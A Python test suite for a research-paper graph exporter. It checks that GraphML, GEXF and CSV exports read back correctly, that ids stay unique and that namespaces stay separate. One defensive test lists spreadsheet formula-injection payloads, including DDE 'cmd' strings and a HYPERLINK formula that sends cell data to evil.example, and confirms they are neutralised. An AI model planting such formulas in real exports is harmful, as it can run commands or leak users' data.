"""Every export read back by a real reader, with the invariants checked on each.

GraphML: networkx and python-igraph. GEXF: networkx, and the XML Schema in
tests/data/gexf-1.3-static.xsd (the static part of GEXF 1.3, written from the published
specification: see the file's comment). CSV: the standard library's csv.DictReader.
On every export: as many nodes and edges as the graph, ids unique, every edge's ends
among the nodes, and paper ids never equal to (or shaped like) a concept key.
"""

from __future__ import annotations

import csv
import functools
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import igraph
import networkx as nx
import pytest
import xmlschema
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from graph.building.builder import CONCEPT_KINDS
from graph.export.flat import PAPER_PREFIX, export_ids, flat_graph
from graph.export.formats import export, spreadsheet_cell, write_csv, write_gexf, write_graphml
from tests.conftest import DATA

SCHEMA = DATA / "gexf-1.3-static.xsd"
GEXF = "{http://gexf.net/1.3}"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CONCEPT_PREFIXES = tuple(f"{kind}:" for kind in CONCEPT_KINDS)


@functools.cache
def gexf_schema() -> xmlschema.XMLSchema:
    return xmlschema.XMLSchema(SCHEMA)


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def unquoted(cell: str) -> str:
    """A CSV cell's value: one spreadsheet quote removed (see graph.export.formats.spreadsheet_cell)."""
    return cell[1:] if cell.startswith("'") else cell


def write_all(G: nx.MultiDiGraph, directory: Path) -> dict[str, Path]:
    export(G, directory, ["graphml", "gexf", "csv"])
    return {
        name: directory / name
        for name in ("papergraph.graphml", "papergraph.gexf", "nodes.csv", "edges.csv")
    }


def check_exports(G: nx.MultiDiGraph, directory: Path) -> dict[str, dict[str, str]]:
    """Read every export of ``G`` back and check the invariants; the node ids each
    reader saw, per export (id -> kind)."""
    paths = write_all(G, directory)
    nodes, edges = G.number_of_nodes(), G.number_of_edges()
    ids = export_ids(G)
    assert len(set(ids.values())) == nodes
    kind_of = {ids[node]: kind for node, kind in G.nodes(data="kind")}
    seen: dict[str, dict[str, str]] = {}

    # GraphML: ids straight from the XML (a reader would merge duplicates silently)
    raw = ET.parse(paths["papergraph.graphml"]).getroot()
    graphml_ids = [
        node.get("id") for node in raw.iter("{http://graphml.graphdrawing.org/xmlns}node")
    ]
    assert len(graphml_ids) == len(set(graphml_ids)) == nodes
    back = nx.read_graphml(paths["papergraph.graphml"], force_multigraph=True)
    assert back.number_of_nodes() == nodes and back.number_of_edges() == edges
    assert set(back) == set(kind_of)
    seen["graphml"] = {node: kind for node, kind in back.nodes(data="kind")}
    g = igraph.Graph.Read_GraphML(str(paths["papergraph.graphml"]))
    assert g.vcount() == nodes and g.ecount() == edges
    assert len(set(g.vs["id"])) == nodes if nodes else True

    # GEXF: the schema, then networkx
    gexf_schema().validate(str(paths["papergraph.gexf"]))
    root = ET.parse(paths["papergraph.gexf"]).getroot()
    graph_element = root.find(f"{GEXF}graph")
    assert graph_element.get("mode") == "static" and graph_element.get("timeformat") is None
    for edge in root.iter(f"{GEXF}edge"):
        assert edge.get("type") in (None, "directed") and edge.get("start") is None
    back = nx.read_gexf(paths["papergraph.gexf"])
    assert back.number_of_nodes() == nodes and back.number_of_edges() == edges
    assert set(back) == set(kind_of)
    seen["gexf"] = {node: kind for node, kind in back.nodes(data="kind")}

    # CSV: the standard library's reader
    node_rows, edge_rows = read_csv(paths["nodes.csv"]), read_csv(paths["edges.csv"])
    assert len(node_rows) == nodes and len(edge_rows) == edges
    csv_ids = [unquoted(row["Id"]) for row in node_rows]
    assert len(set(csv_ids)) == nodes and set(csv_ids) == set(kind_of)
    for row in edge_rows:
        assert unquoted(row["Source"]) in kind_of and unquoted(row["Target"]) in kind_of
        assert row["Type"] == "Directed" and row["Kind"] == row["Label"] == row["relationship"]
    for row in [*node_rows, *edge_rows]:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), cell
    seen["csv"] = {unquoted(row["Id"]): row["kind"] for row in node_rows}

    # namespaces: a paper's id is never a concept's, nor shaped like a concept key
    for export_name, kinds in seen.items():
        papers = {node for node, kind in kinds.items() if kind == "paper"}
        concepts = {node for node, kind in kinds.items() if kind in CONCEPT_KINDS}
        assert not papers & concepts, export_name
        assert not any(paper.startswith(CONCEPT_PREFIXES) for paper in papers), export_name
    return seen


# --- the reproductions of issue 18 (items 7, 8, 17, 18) ---------------------------------


def test_ids_differing_only_by_control_characters_stay_apart(tmp_path) -> None:
    G = nx.MultiDiGraph()
    for node in ["2401.00001", "2401.00001\x01", "2401.00001\x02", "2401\x0000001", "pg\ud800"]:
        G.add_node(node, kind="paper", title=f"title of {node!r}")
    G.add_edge("2401.00001\x01", "2401.00001", key="CITES", type="CITES")
    seen = check_exports(G, tmp_path)
    assert set(seen["graphml"]) == {
        "2401.00001",
        "2401.00001\\u0001",
        "2401.00001\\u0002",
        "2401\\u000000001",
        "pg\\ud800",
    }


def test_a_paper_id_equal_to_a_concept_key_after_sanitising_stays_a_paper(tmp_path) -> None:
    G = nx.MultiDiGraph()
    G.add_node("method:lora", kind="method", name="LoRA", aliases=[], df=1, idf=1.0)
    G.add_node("method:lo\x01ra", kind="paper", title="A paper with a hostile id")
    G.add_node("method:lora2", kind="paper", title="A paper whose id looks like a key")
    G.add_node("paper:x", kind="paper", title="A paper whose id has the prefix already")
    G.add_edge("method:lo\x01ra", "method:lora", key="USES", type="USES", count=1)
    seen = check_exports(G, tmp_path)
    for kinds in seen.values():
        assert kinds == {
            "method:lora": "method",
            "paper:method:lo\\u0001ra": "paper",
            "paper:method:lora2": "paper",
            "paper:paper:x": "paper",
        }
    edges = read_csv(tmp_path / "edges.csv")
    assert [(row["Source"], row["Target"]) for row in edges] == [
        ("paper:method:lo\\u0001ra", "method:lora")
    ]


def test_an_escaped_id_equal_to_another_literal_id_gets_a_suffix(tmp_path) -> None:
    G = nx.MultiDiGraph()
    G.add_node("a\x01", kind="paper")
    G.add_node("a\\u0001", kind="paper")  # the literal text the first escapes to
    G.add_node("a\\u0001~2", kind="paper")  # and the first suffix too
    seen = check_exports(G, tmp_path)
    assert set(seen["gexf"]) == {"a\\u0001", "a\\u0001~2", "a\\u0001~3"}
    assert export_ids(G)["a\x01"] == "a\\u0001~3"


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        "+SUM(1+1)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "\tTAB=1+1",
        "\r=1+1",
        "'=1+1",
    ],
)
def test_spreadsheet_formulas_are_neutralised(tmp_path, text) -> None:
    G = nx.MultiDiGraph()
    G.add_node(text, kind="paper", title=text, cluster=-1, organization=text)
    G.add_node("method:x", kind="method", name=text, aliases=[text])
    G.add_edge(text, "method:x", key="USES", type="USES", sentence=text, text=text, count=1)
    check_exports(G, tmp_path)
    [concept, paper] = sorted(read_csv(tmp_path / "nodes.csv"), key=lambda row: row["kind"])
    value = text.replace("\r", "\n")  # values hold line ends as \n (as XML reads them back)
    cell = "'" + value if value.startswith((*FORMULA_STARTS, "'")) else value
    assert paper["Label"] == paper["title"] == paper["organization"] == cell
    assert paper["cluster"] == "-1"  # a number, left alone
    assert concept["Label"] == concept["aliases"] == paper["title"]
    [edge] = read_csv(tmp_path / "edges.csv")
    assert edge["sentence"] == edge["text"] == paper["title"]
    assert unquoted(edge["Source"]) == unquoted(paper["Id"])


def test_spreadsheet_cell_leaves_ordinary_text_alone() -> None:
    for text in ["GPT-4 (2)", "X-Net", "a=b", "", "7-Scenes", "C++", "e-mail @home"]:
        assert spreadsheet_cell(text) == text
    assert spreadsheet_cell(-0.5) == -0.5 and spreadsheet_cell(True) is True


def evidence_graph() -> nx.MultiDiGraph:
    G = nx.MultiDiGraph()
    G.add_node("a", kind="paper", title="A", cluster=0)
    G.add_node("b", kind="paper", title="B", cluster=0)
    G.add_node("method:lora", kind="method", name="LoRA", aliases=["low-rank adaptation"])
    G.add_edge(
        "a",
        "method:lora",
        key="USES",
        type="USES",
        count=2,
        text="LoRA",
        field="abstract",
        start=12,
        end=16,
        sentence="We use LoRA.",
    )
    G.add_edge(
        "a", "b", key="SHARES_CONCEPT", type="SHARES_CONCEPT", weight=1.5, shared=["method:lora"]
    )
    G.add_edge("a", "b", key="CITES", type="CITES")
    return G


def test_gexf_relationships_and_offsets_are_declared_attributes(tmp_path) -> None:
    G = evidence_graph()
    check_exports(G, tmp_path)
    root = ET.parse(tmp_path / "papergraph.gexf").getroot()
    assert root.get("version") == "1.3"
    titles = {(a.get("title"), a.get("type")) for a in root.iter(f"{GEXF}attribute")}
    assert {("relationship", "string"), ("start", "long"), ("end", "long")} <= titles
    edges = {edge.get("kind"): edge for edge in root.iter(f"{GEXF}edge")}
    assert set(edges) == {"USES", "SHARES_CONCEPT", "CITES"}
    assert edges["SHARES_CONCEPT"].get("weight") == "1.5" and edges["USES"].get("weight") is None
    back = nx.read_gexf(tmp_path / "papergraph.gexf")
    assert isinstance(back, nx.MultiDiGraph) and back.graph["mode"] == "static"
    uses = [d for *_, d in back.edges(data=True) if d["relationship"] == "USES"]
    assert uses == [
        {
            "count": 2,
            "text": "LoRA",
            "field": "abstract",
            "start": 12,
            "end": 16,
            "sentence": "We use LoRA.",
            "relationship": "USES",
            "id": "e2",
            "label": "USES",
        }
    ]
    assert {d["relationship"] for *_, d in back.edges(data=True)} == set(edges)


def test_the_schema_rejects_what_the_old_gexf_did(tmp_path) -> None:
    """networkx's writer puts the relationship into ``type`` and the offsets into time
    spans (a dynamic graph): the schema check catches both."""
    path = tmp_path / "networkx.gexf"
    nx.write_gexf(flat_graph(evidence_graph()), path, version="1.3")
    with pytest.raises(xmlschema.XMLSchemaValidationError):
        gexf_schema().validate(str(path))
    text = path.read_text(encoding="utf-8")
    assert 'mode="dynamic"' in text and 'type="USES"' in text


def test_csv_follows_gephi_spreadsheet_columns(tmp_path) -> None:
    write_csv(evidence_graph(), tmp_path / "nodes.csv", tmp_path / "edges.csv")
    nodes, edges = read_csv(tmp_path / "nodes.csv"), read_csv(tmp_path / "edges.csv")
    assert list(nodes[0]) == ["Id", "Label", "kind", "aliases", "cluster", "name", "title"]
    assert list(edges[0]) == [
        "Source",
        "Target",
        "Type",
        "Kind",
        "Label",
        "Weight",
        "count",
        "end",
        "field",
        "relationship",
        "sentence",
        "shared",
        "start",
        "text",
    ]
    by_relationship = {row["relationship"]: row for row in edges}
    assert by_relationship["SHARES_CONCEPT"]["Weight"] == "1.5"
    assert by_relationship["CITES"]["Weight"] == "" and by_relationship["USES"]["start"] == "12"
    # no column Gephi would read as one of its own, apart from the ones meant
    reserved = {"id", "label", "type", "kind", "weight", "source", "target", "timeset"}
    assert [c for c in edges[0] if c.lower() in reserved] == list(edges[0])[:6]


def test_write_gexf_alone_matches_export(tmp_path) -> None:
    G = evidence_graph()
    write_gexf(G, tmp_path / "alone.gexf")
    write_graphml(G, tmp_path / "alone.graphml")
    paths = write_all(G, tmp_path / "all")
    assert (tmp_path / "alone.gexf").read_bytes() == paths["papergraph.gexf"].read_bytes()
    assert (tmp_path / "alone.graphml").read_bytes() == paths["papergraph.graphml"].read_bytes()


# --- property: ids drawn from real shapes, decorated with what breaks readers ------------

REAL_IDS = ["2401.00001", "2312.17890v2", "pg-0058316403188522", "10.1145/3580305.3599256",
            "method:lora", "benchmark:glue", "metric:bleu", "repo:github.com/a/b", "paper:x",
            "GPT-4 (2)", "X-Net (v2)", "7-Scenes (1)", "Attention Is All You Need"]  # fmt: skip
DECORATIONS = ["", "\x00", "\x01", "\x07", "\x1f", "\t", "\n", "\r", "\ufffe", "\uffff", "=",
               "+", "-", "@", "'", "\u202e", "e\u0301", "👩‍🔬", "ﬁ", "\u00a0", "\\u0001",
               "paper:", "method:", "<&>", '"', "~2"]  # fmt: skip
odd_text = st.text(
    alphabet=st.characters(exclude_categories=("Cs",)), min_size=1, max_size=12
)  # any code point but surrogates: controls, private use, unassigned, combining marks
ids = st.one_of(
    st.tuples(
        st.sampled_from(DECORATIONS), st.sampled_from(REAL_IDS), st.sampled_from(DECORATIONS)
    ).map("".join),
    st.tuples(st.sampled_from(REAL_IDS), st.integers(0, 12), st.sampled_from(DECORATIONS)).map(
        lambda t: t[0][: t[1]] + t[2] + t[0][t[1] :]
    ),
    odd_text,
)


@st.composite
def graphs(draw) -> nx.MultiDiGraph:
    G = nx.MultiDiGraph()
    for node in draw(st.lists(ids, min_size=1, max_size=8, unique=True)):
        kind = draw(st.sampled_from(["paper", "paper", *CONCEPT_KINDS]))
        if kind == "paper":
            G.add_node(node, kind=kind, title=draw(st.one_of(ids, odd_text)), cluster=-1)
        else:
            G.add_node(node, kind=kind, name=draw(ids), aliases=[draw(ids)], df=1, idf=0.5)
    nodes = list(G)
    for _ in range(draw(st.integers(0, 8))):
        source, target = draw(st.sampled_from(nodes)), draw(st.sampled_from(nodes))
        relationship = draw(st.sampled_from(["USES", "SHARES_CONCEPT", "CITES"]))
        G.add_edge(
            source,
            target,
            key=relationship,
            type=relationship,
            start=0,
            end=3,
            sentence=draw(st.one_of(ids, odd_text)),
        )
    return G


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(graphs())
def test_any_ids_survive_every_export(tmp_path_factory, G) -> None:
    directory = tmp_path_factory.mktemp("export")
    seen = check_exports(G, directory)
    ids = export_ids(G)
    assert all(set(kinds) == set(ids.values()) for kinds in seen.values())
    # an ordinary id (one line, XML-safe, not shaped like another namespace) is unchanged
    for node, text in ids.items():
        ordinary = not re.search("[\x00-\x1f\ufffe\uffff]", node) and not (
            G.nodes[node]["kind"] == "paper" and node.startswith((*CONCEPT_PREFIXES, PAPER_PREFIX))
        )
        if ordinary and sum(1 for other in ids.values() if other == node) <= 1:
            assert text == node


@pytest.mark.seeds
def test_seed_exports_pass_every_reader(seed_outdir, tmp_path) -> None:
    from graph.store.graphfile import load_graph

    G = load_graph(seed_outdir)
    check_exports(G, tmp_path)
    assert export_ids(G) == {node: node for node in G}  # real ids are written unchanged
